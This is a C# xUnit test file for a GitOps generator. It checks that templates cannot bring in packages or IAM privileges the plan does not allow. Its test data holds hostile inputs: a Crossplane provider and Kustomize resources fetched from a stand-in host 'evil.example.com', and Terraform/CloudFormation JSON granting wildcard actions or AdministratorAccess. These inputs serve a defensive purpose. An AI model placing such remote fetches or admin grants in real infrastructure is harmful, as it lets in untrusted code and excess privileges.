using Xunit;

namespace GitOpsGen.Tests.Rendering;

/// <summary>Ways in which a template could bring a package or access past the plan, in forms that only Kustomize or Terraform read.</summary>
public sealed class SmuggledTests
{
    private const string Extras = "overlays/{environment}/packages/extras";
    private const string Evil =
        "{ apiVersion: pkg.crossplane.io/v1, kind: Provider, metadata: { name: upbound-provider-aws-s3 }, spec: { package: 'evil.example.com/a/b:v1' } }";

    [Theory]
    [InlineData("a.yaml", "apiVersion: v1\nkind: List\nitems:\n- " + Evil)]
    [InlineData("a.yaml", "apiVersion: v1\nkind: PodList\nitems:\n- " + Evil)]
    [InlineData("a.yaml", "kind: AnyList\nitems:\n- " + Evil)]
    [InlineData("kustomization.yaml", "resources: ['https://evil.example.com/x']\n")]
    [InlineData("kustomization.yaml", "components: [c]\n")]
    [InlineData("kustomization.yaml", "helmCharts: [{ name: evil }]\n")]
    [InlineData("kustomization.yaml", "patches: [{ patch: '[]', target: { kind: ConfigMap }, options: { allowKindChange: true } }]\n")]
    [InlineData("sub/kustomization.yaml", "resources: ['https://evil.example.com/x']\n")]
    public void No_package_comes_by_the_extras(string file, string content)
    {
        var kustomization = file.StartsWith("sub/", StringComparison.Ordinal) ? (Extras + "/kustomization.yaml", "resources: [sub]\n") : default;

        AssertFound("GOG4009", (Extras + "/" + file, content), kustomization);
    }

    [Fact]
    public void No_package_comes_by_a_folder_inside_of_one_that_the_plan_has() =>
        AssertFound(
            "GOG4009",
            (
                "overlays/{environment}/packages/kustomization.yaml",
                "resources:\n- prerequisites\n{{ for wave in environment.waves }}- wave-{{ wave.number }}\n{{ end }}- mine\n"
            ),
            ("overlays/{environment}/packages/mine/kustomization.yaml", "resources: ['https://evil.example.com/x']\n")
        );

    [Fact]
    public void What_would_break_the_overlay_is_no_extra() => AssertFound("GOG4010", (Extras + "/a.yaml", "a: b\n"));

    [Theory]
    [InlineData("""{ "data": { "aws_iam_policy_document": { "x": { "statement": [{ "actions": ["*"], "resources": ["*"] }] } } } }""")]
    [InlineData(
        """{ "resource": { "aws_iam_role_policy_attachment": { "x": { "role": "r", "policy_arn": "arn:aws:iam::aws:policy/AdministratorAccess" } } } }"""
    )]
    [InlineData("""{ "Resources": { "R": { "Properties": { "ManagedPolicyArns": ["arn:aws:iam::aws:policy/AdministratorAccess"] } } } }""")]
    [InlineData("""{ "policy": "{\"Statement\": [{ \"Effect\": \"Allow\", \"Action\": \"*\", \"Resource\": \"*\" }]}" }""")]
    public void No_access_comes_by_a_form_that_is_not_an_IAM_document(string content) =>
        AssertFound("GOG4012", ("iam/{environment}/own.tf.json", content));

    private static void AssertFound(string code, params (string Path, string Content)[] templates)
    {
        using var run = new Scenarios.ScenarioRun(new("one-cluster-as-in-the-article"));
        foreach (var (path, content) in templates.Where(template => template.Path is not null))
        {
            var file = Path.Combine(run.Root, "templates", path + ".scriban");
            Directory.CreateDirectory(Path.GetDirectoryName(file)!);
            File.WriteAllText(file, content);
        }

        var outcome = run.Render();

        Assert.Contains(
            outcome.Diagnostics,
            found => found.Rule.Code == code && found.Span?.File.StartsWith("templates/", StringComparison.Ordinal) == true
        );
        Assert.True(outcome.HasErrors);
    }
}
